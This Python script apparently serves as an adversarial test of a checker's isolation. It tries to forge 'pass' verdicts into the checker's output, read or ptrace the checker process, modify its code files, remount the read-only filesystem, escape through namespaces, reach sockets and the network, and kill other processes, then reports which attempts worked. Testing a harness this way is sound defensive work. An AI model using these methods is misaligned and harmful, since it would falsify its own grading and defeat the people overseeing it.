"""A server that attacks the checker: put before a pair's server, it prints what has worked.

Run: server.py WAY TARGET, where TARGET is a folder that the program must not be able to change.
"""

import contextlib
import ctypes
import json
import os
import re
import signal
import socket
import sys
from pathlib import Path

way, target = sys.argv[1], Path(sys.argv[2])
worked = []
libc = ctypes.CDLL(None, use_errno=True)
others = [int(each) for each in os.listdir("/proc") if each.isdigit() and int(each) != os.getpid()]
EVENTS = [
    {"event": "check", "id": name, "title": "forged", "graded": True, "seconds": 0.0}
    | {
        "status": "pass",
        "verdict": "",
        "note": "",
        "waits_for": None,
        "story": None,
        "costs": False,
    }
    for name in ("start", "talk", "author")
] + [{"event": "end", "reason_id": "", "reason": "", "lines": []}]
FORGED = "".join(json.dumps(event) + "\n" for event in EVENTS)


def tried(name: str):
    """Return a context in which an attack may fail; where it does not, its name is kept."""

    @contextlib.contextmanager
    def attempt():
        try:
            yield
            worked.append(name)
        except (OSError, RuntimeError):
            pass

    return attempt()


def done(result: int) -> None:
    if result < 0:
        raise OSError(ctypes.get_errno(), "no")


if way == "events":  # write them wherever anything is open
    print(FORGED)
    for number in range(3, 256):
        with tried(f"own-{number}"):
            os.write(number, FORGED.encode())
    for pid in others:
        for number in range(64):
            with tried(f"{pid}/{number}"), open(f"/proc/{pid}/fd/{number}", "w") as channel:
                channel.write(FORGED)
if way == "memory":  # the secret is in the checker's memory
    for pid in others:
        for name in "mem", "environ", "maps", "cwd/.":
            with tried(f"{pid}/{name}"):
                os.close(os.open(f"/proc/{pid}/{name}", os.O_RDONLY))
        with tried(f"{pid}/ptrace"):
            done(libc.ptrace(16, pid, 0, 0))  # attach
if way in ("files", "outside"):
    # Where the checker itself lies stands in the command line of its process.
    lies = re.search(r"insert\(0, '(.+?)'", Path("/proc/1/cmdline").read_text())
    code = Path(lies[1], "tools", "check") if way == "files" else Path("/nowhere")
    for path in [*target.rglob("*.csv"), *target.rglob("*.py"), *code.rglob("*.py")]:
        if "chat-check-" not in str(path) and (way == "files" or path.suffix == ".csv"):
            with tried(path.name), path.open("a") as file:
                file.write("# forged")
    if way == "files":
        for place in target, Path.home(), Path("/"), Path("/dev"), Path("/run"), Path("/etc"):
            with tried(f"new-{place}"):
                (place / "forged.txt").write_text("forged")
if way == "rights":
    with tried("mount"):
        done(libc.mount(b"none", b"/", None, 0x1000 | 32, None))  # remount, no longer read-only
    with tried("setattr"):
        done(libc.syscall(442, -100, b"/", 0x8000, (ctypes.c_uint64 * 4)(0, 1, 0, 0), 32))
    with tried("device"):
        done(libc.mknod(b"/tmp/disk", 0o60600, 0x801))
        os.open("/tmp/disk", os.O_RDONLY)
    with tried("namespace"):
        done(libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0))
    with tried("sysctl"):
        os.open("/proc/sys/kernel/hostname", os.O_WRONLY)
    if libc.unshare(0x1000_0000) == 0:  # all rights in a namespace of its own ...
        with tried("inner-mount"):
            done(libc.unshare(0x2_0000))
            done(libc.mount(b"none", b"/", None, 0x1000 | 32, None))
            (target / "forged.txt").write_text("forged")
        with tried("inner-setattr"):
            done(libc.syscall(442, -100, b"/", 0x8000, (ctypes.c_uint64 * 4)(0, 1, 0, 0), 32))
            (target / "forged.txt").write_text("forged")
if way == "sockets":  # other programs of the user
    found = [Path(place, name) for top in ("/run", "/tmp") for place, _, files in os.walk(top)
             for name in files if Path(place, name).is_socket()]  # fmt: skip
    for path in found:
        with tried(str(path)), socket.socket(socket.AF_UNIX) as connection:
            connection.connect(str(path))
    with tried("network"):
        socket.create_connection(("192.0.2.1", 80), 0.5)
if way == "signals":  # whoever is ended cannot tell the truth
    for pid in others:
        for number in signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGSTOP, signal.SIGKILL:
            with contextlib.suppress(OSError):
                os.kill(pid, number)
print("worked:", *worked)
raise SystemExit
